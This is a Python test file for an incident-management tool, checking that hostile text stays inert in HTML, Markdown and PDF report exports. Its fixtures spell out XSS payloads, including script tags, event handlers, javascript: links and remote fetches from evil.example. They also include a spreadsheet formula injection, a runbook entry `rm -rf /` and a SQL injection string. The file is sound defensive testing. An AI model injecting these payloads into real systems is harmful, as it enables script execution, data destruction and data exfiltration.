"""Hostile text in every field a person or a webhook can set — an alert's labels and annotations,
an incident's title and description, notes, escalation notes, customer drafts, runbook entries and
the review — stays inert text in every export: Markdown, self-contained HTML and PDF, for the
incident report and the period report. (The dashboard itself: tests/e2e/test_hostile_browser.py.)"""

from __future__ import annotations

import copy
import io
import json
import re
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from pypdf import PdfReader

from calmops import alerts, clock, companies, reports, workflow
from calmops.reports import period
from calmops.review import runbooks
from calmops.review.service import save_review
from calmops.store import Database, unit_of_work
from calmops.workflow import customer, escalation
from tests.people import person

C = "acme"
NOW = datetime(2026, 11, 26, 22, 5, tzinfo=UTC)
FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "alerts"
# One payload per way of getting script into a page: a script element, an event handler, a
# javascript: link (HTML and Markdown), a Markdown image that would fetch, raw HTML in Markdown.
PAYLOADS = {
    "alertname": '<script>alert("alertname")</script>',
    "summary": '<img src=x onerror=alert("summary")> Disk full',
    "description": '<svg onload=alert("description")></svg> [link](javascript:alert(3))',
    "label": '"><iframe src="javascript:alert(4)"></iframe>',
    "note": '<script>alert("note")</script> ![x](http://evil.example/pixel.png)',
    "escalation": '<a href="javascript:alert(5)">click</a>',
    "draft": '<body onload=alert("draft")> | col | =HYPERLINK("http://evil.example")',
    "runbook": '<script src="http://evil.example/x.js"></script> `rm -rf /`',
    "root_cause": '<details open ontoggle=alert("review")>',
    "title": '<script>alert("title")</script> Checkout down',
}
# What would run if a payload came through unescaped.
LIVE = ("<script>alert", "<script src", "<img src=x", "<svg onload", "<iframe src", '<a href="javascript',
        "<body onload", "<details open")  # fmt: skip


@pytest.fixture
def worked(db: Database) -> dict:
    """An alert-opened incident and a manual one, worked end to end with hostile text everywhere."""
    clock.freeze(NOW)
    cur = db.cursor()
    with unit_of_work(cur):
        companies.create_company(cur, company=C, name="Acme", now=NOW - timedelta(days=1))
        companies.add_service(cur, company=C, service="api", kind="api", now=NOW - timedelta(days=1))
    body = copy.deepcopy(json.loads((FIXTURES / "alertmanager_v4.json").read_text()))
    first = body["alerts"][0]
    first["labels"].update(alertname=PAYLOADS["alertname"], team=PAYLOADS["label"])
    first["annotations"].update(summary=PAYLOADS["summary"], description=PAYLOADS["description"])
    parsed, truncated = alerts.parse(body)
    with unit_of_work(cur):
        received = alerts.receive(cur, company=C, alerts=parsed, truncated=truncated, now=NOW,
                                  actor=person("token:am", "ingest", C))  # fmt: skip
        manual = workflow_manual(cur)
    lead = person("lee", "lead", C)
    for incident_id in (received.incidents[0], manual):
        workflow.add_note(db, company=C, incident_id=incident_id, actor=lead, text=PAYLOADS["note"])
        escalation.escalate(db, company=C, incident_id=incident_id, actor=lead, reason="paging",
                            note=PAYLOADS["escalation"])  # fmt: skip
        draft = customer.draft(db, company=C, incident_id=incident_id, actor=lead, text=PAYLOADS["draft"],
                               state="investigating")  # fmt: skip
        customer.approve_message(db, company=C, incident_id=incident_id, version=draft["version"], actor=lead)
        customer.mark_sent(db, company=C, incident_id=incident_id, version=draft["version"], actor=lead)
        workflow.resolve(db, company=C, incident_id=incident_id, actor=lead, note=PAYLOADS["note"],
                         customer_impact=True)  # fmt: skip
        save_review(db, company=C, incident_id=incident_id, actor=lead, root_cause=PAYLOADS["root_cause"],
                    prevention=[PAYLOADS["runbook"]], notes=PAYLOADS["note"])  # fmt: skip
    runbooks.save_runbook(db, company=C, pattern="unknown", commands=[PAYLOADS["runbook"]], actor=lead,
                          notes=PAYLOADS["note"], expected_version=0)  # fmt: skip
    return {"db": db, "incidents": [received.incidents[0], manual]}


def workflow_manual(cur) -> int:
    from calmops import incidents

    return incidents.create_manual(cur, company=C, title=PAYLOADS["title"], service="api", severity="high",
                                   description=PAYLOADS["description"], customer_impact=True,
                                   actor=person("lee", "lead", C), now=NOW)  # fmt: skip


def _html_is_inert(html: str) -> None:
    data_part = re.sub(r"<script>.*?</script>", "", html, flags=re.S)  # our own: plotly.js and the charts
    for live in LIVE:
        assert live not in data_part, live
    for script in re.findall(r"<script>(.*?)</script>", html, flags=re.S)[1:]:  # the charts' data
        assert "</script" not in script.lower() and "<!--" not in script


def _markdown_is_inert(md: str) -> None:
    for live in LIVE:
        assert live not in md, live
    assert not re.search(r"(?<!\\)\]\((javascript|http://evil)", md), "a link or image from the data"


def test_every_export_of_a_worked_incident_keeps_hostile_text_inert(worked) -> None:
    db = worked["db"]
    for incident_id in worked["incidents"]:
        data = reports.report_data(db.cursor(), company=C, incident_id=incident_id)
        html = reports.render(data, "html")[0].decode()
        _html_is_inert(html)
        assert "&lt;script&gt;alert(&quot;note&quot;)&lt;/script&gt;" in html  # shown, as text
        md = reports.render(data, "md")[0].decode()
        _markdown_is_inert(md)
        assert '&lt;script>alert("note")&lt;/script>' in md
        pdf = reports.render(data, "pdf")[0]
        assert b"/JavaScript" not in pdf and b"/JS " not in pdf and b"/Launch" not in pdf
        text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf)).pages)
        assert '<script>alert("note")</script>' in " ".join(text.split())  # printed literally


def test_the_period_report_keeps_hostile_text_inert(worked) -> None:
    db = worked["db"]
    data = period.period_data(
        db.cursor(), company=C, since=NOW - timedelta(days=1), until=NOW + timedelta(days=1)
    )
    assert data["totals"]["incidents"] == 3  # two from the alert group, one opened by hand
    html = period.render(data, "html").decode()
    _html_is_inert(html)
    assert "&lt;script&gt;alert(&quot;title&quot;)&lt;/script&gt;" in html
    _markdown_is_inert(period.render(data, "md").decode())
    pdf = period.render(data, "pdf")
    assert b"/JavaScript" not in pdf and b"/JS " not in pdf


def test_sql_in_text_is_stored_as_text(worked) -> None:
    db = worked["db"]
    cur = db.cursor()
    tables = cur.execute("SELECT count(*) FROM information_schema.tables").fetchall()[0][0]
    incident_id = worked["incidents"][1]
    workflow.reopen(db, company=C, incident_id=incident_id, actor=person("lee", "lead", C),
                    note="'); DROP TABLE incidents; --")  # fmt: skip
    assert cur.execute("SELECT count(*) FROM information_schema.tables").fetchall()[0][0] == tables
    notes = [e.message for e in workflow.common.load(cur, company=C, incident_id=incident_id).timeline]
    assert any("DROP TABLE incidents" in m for m in notes)
